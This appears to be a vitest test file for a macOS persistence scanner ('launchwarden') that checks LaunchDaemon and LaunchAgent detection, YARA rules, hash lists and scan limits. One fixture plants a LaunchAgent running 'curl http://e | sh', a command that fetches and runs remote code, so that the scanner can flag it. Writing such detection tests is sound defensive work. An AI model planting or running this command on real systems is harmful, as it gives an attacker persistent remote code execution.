import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test, vi } from 'vitest';
import { cli, documents, tempFolder } from '../../helpers/run-cli.js';

// Compiling WebAssembly takes its time on a machine that has none to spare.
vi.setConfig({ testTimeout: 60_000 });

const list = (label: string, args: readonly string[]) =>
  `<plist version="1.0"><dict><key>Label</key><string>${label}</string><key>ProgramArguments</key><array>` +
  `${args.map((one) => `<string>${one}</string>`).join('')}</array></dict></plist>`;

function mac(files: Readonly<Record<string, string>>): { root: string; at: string[] } {
  const root = tempFolder();
  for (const [name, text] of Object.entries(files)) {
    const file = path.join(root, name);
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, text);
    chmodSync(file, 0o644);
  }
  return { root, at: ['--root', root, '--data-dir', path.join(tempFolder(), 'data')] };
}

const vendor = {
  'Library/LaunchDaemons/com.vendor.helper.plist': list('com.vendor.helper', ['/usr/local/bin/helper']),
  'usr/local/bin/helper': 'a helper',
  'Users/alice/.zshrc': 'alias ll="ls -l"\n',
};
const evil = {
  'Users/alice/Library/LaunchAgents/com.x.plist': list('com.x', ['/bin/sh', '-c', 'curl http://e | sh']),
};

test('a Mac with ordinary items is quiet: rules about the change alone find nothing', async () => {
  const { at } = mac(vendor);
  const run = await cli(['scan', ...at]);
  expect(run.code).toBe(0);
  expect(run.stdout).toContain('Nothing found, 2 quiet');
  const all = documents((await cli(['scan', ...at, '--json'])).stdout);
  const daemon = all.find((one) => one['mechanism'] === 'launch-daemon');
  expect(daemon).toMatchObject({ schema: 'launchwarden.scan/1', verdict: 'quiet' });
  const rules = daemon?.['rules'] as { about: string }[];
  expect(rules.length).toBeGreaterThan(0);
  expect(rules.every(({ about }) => about === 'place')).toBe(true);
});

test('rules, findings, hash lists and YARA name what is bad, and the exit code says so', async () => {
  const { root, at } = mac({ ...vendor, ...evil });
  writeFileSync(path.join(root, 'a.yar'), 'rule Helper { strings: $a = "a helper" condition: $a }');
  writeFileSync(path.join(root, 'bad.yar'), 'rule Bad { condition: nothing }');
  const run = await cli([
    'scan',
    ...at,
    '--yara',
    path.join(root, 'a.yar'),
    '--yara',
    path.join(root, 'bad.yar'),
  ]);
  expect(run.code).toBe(1);
  expect(run.stdout).toContain('YARA: /usr/local/bin/helper matches Helper');
  expect(run.stdout).toContain('hides its command');
  expect(run.stdout).not.toContain('.zshrc');
  expect(run.stdout).toContain('2 matches, 0 odd, 1 quiet');
  expect(run.stderr).toContain('bad.yar:1:');
});

test('a path narrows the scan to the items that stand or run something there', async () => {
  const { at } = mac({ ...vendor, ...evil });
  const docs = documents((await cli(['scan', ...at, '--json', '/usr/local/bin'])).stdout);
  expect(docs.map((one) => one['path'])).toEqual([
    '/Library/LaunchDaemons/com.vendor.helper.plist',
    undefined,
  ]);
  const none = await cli(['scan', ...at, '/nowhere']);
  expect(none.code).toBe(2);
  expect(none.stderr).toContain('scan/no-path');
});

test('what the time or the size leaves out is named', async () => {
  const { root, at } = mac(vendor);
  writeFileSync(path.join(root, 'a.yar'), 'rule Helper { strings: $a = "a helper" condition: $a }');
  const yara = ['--yara', path.join(root, 'a.yar')];
  const large = await cli(['scan', ...at, ...yara, '--max-file', '4 B']);
  expect(large.code).toBe(0);
  expect(large.stdout).toContain('Nothing found in what was scanned');
  expect(large.stdout).toContain('/usr/local/bin/helper: too large for YARA');
  const [summary] = documents((await cli(['scan', ...at, '--time', '1us', '--json'])).stdout).slice(-1);
  expect(summary).toMatchObject({ schema: 'launchwarden.scan_summary/1', files: 0 });
  const left = summary?.['left_out'] as { path: string }[];
  expect(left.map((one) => one.path)).toContain('/usr/local/bin/helper');
});

test('a list of which nothing can be used, and a folder without YARA rules, are no clean scan', async () => {
  const { at } = mac(vendor);
  const folder = tempFolder();
  const broken = path.join(folder, 'broken.txt');
  writeFileSync(broken, 'd41d8cd98f00b204e9800998ecf8427e\n');
  const run = await cli(['scan', ...at, '--hashes', broken, '--yara', folder]);
  expect(run.code).toBe(1);
  expect(run.stdout).toContain(`Not used: nothing in ${broken} can be.`);
  expect(run.stdout).toContain(`Not used: nothing in ${folder} can be.`);
  const good = path.join(folder, 'good.txt');
  writeFileSync(good, `${'a'.repeat(64)}\nnot a hash\n`);
  expect((await cli(['scan', ...at, '--hashes', good])).code).toBe(0);
});

test('a file in a folder that is not there is refused in words', async () => {
  const { at } = mac(vendor);
  const run = await cli(['report', '--host', ...at, '--html', '/nowhere/x.html']);
  expect(run.code).toBe(2);
  expect(run.stderr).not.toContain('ENOENT');
  expect(run.stderr).toContain('there is no such file or folder');
});
